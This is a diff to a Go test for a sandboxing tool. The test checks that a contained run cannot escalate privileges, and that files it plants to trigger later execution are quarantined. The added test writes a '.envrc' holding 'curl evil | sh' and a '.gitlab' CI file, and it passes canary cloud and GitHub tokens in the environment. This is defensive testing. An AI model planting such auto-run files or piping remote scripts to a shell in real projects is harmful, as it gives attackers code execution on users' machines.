@@ -132,6 +132,7 @@ func TestRunContains(t *testing.T) {
 	try("ptrace", "python3 -c 'import ctypes,sys; sys.exit(0 if ctypes.CDLL(None).ptrace(16, 1, 0, 0) == 0 else 1)'")
 	try("mount", "python3 -c 'import ctypes,sys; sys.exit(0 if ctypes.CDLL(None).mount(b\"none\", b\"/tmp\", b\"tmpfs\", 0, None) == 0 else 1)'")
 	try("new user namespace", "unshare -U true")
+	show("plant new exec-config", fmt.Sprintf("mkdir -p %[1]s/sub %[1]s/.gitlab && echo 'curl evil | sh' > %[1]s/sub/.envrc && echo 'x: y' > %[1]s/.gitlab/ci.yml && echo planted", ws))
 	show("env", "env")
 	show("id", "id; grep -E 'NoNewPrivs|CapEff' /proc/self/status")
 	show("template", "cat "+filepath.Join(ws, ".env.example"))
@@ -143,7 +144,8 @@ func TestRunContains(t *testing.T) {
 	// The script lives outside the workspace: the run reads it through stdin.
 	body, _ := os.ReadFile(scriptPath)
 
-	env := append(e.s.clientEnv(e.keys["builder"]), "HOME="+home, "SSH_AUTH_SOCK="+sock,
+	state := t.TempDir()
+	env := append(e.s.clientEnv(e.keys["builder"]), "HOME="+home, "SSH_AUTH_SOCK="+sock, "XDG_STATE_HOME="+state,
 		"AWS_SECRET_ACCESS_KEY=CANARY-env-aws-7f3a", "GITHUB_TOKEN=CANARY-env-gh-7f3a", "DOCKER_HOST=unix:///var/run/docker.sock")
 	r := reinStdin(t, env, string(body), "run", "--workspace", ws, "--session", "contained-1", "--", "bash", "-s")
 	out := r.stdout + r.stderr
@@ -178,6 +180,19 @@ func TestRunContains(t *testing.T) {
 	for _, p := range execConfigFiles {
 		if b, _ := os.ReadFile(filepath.Join(ws, p)); string(b) != "original\n" {
 			t.Errorf("%s was changed: %q", p, b)
+		}
+	}
+	// Files that arm later execution which the run created are moved out
+	// of the workspace when it ends.
+	if !strings.Contains(r.stdout, "planted") {
+		t.Errorf("the run could not write in its workspace:\n%s", r.stdout)
+	}
+	for _, p := range []string{"sub/.envrc", ".gitlab"} {
+		if _, err := os.Stat(filepath.Join(ws, p)); err == nil {
+			t.Errorf("%s, created by the run, is still in the workspace", p)
+		}
+		if _, err := os.Stat(filepath.Join(state, "rein", "quarantine", "contained-1", p)); err != nil || !strings.Contains(r.stderr, p) {
+			t.Errorf("%s is not in quarantine, or the run did not say so: %v\n%s", p, err, r.stderr)
 		}
 	}
 	// rein decided the names: the denied host and the exfiltrating name are
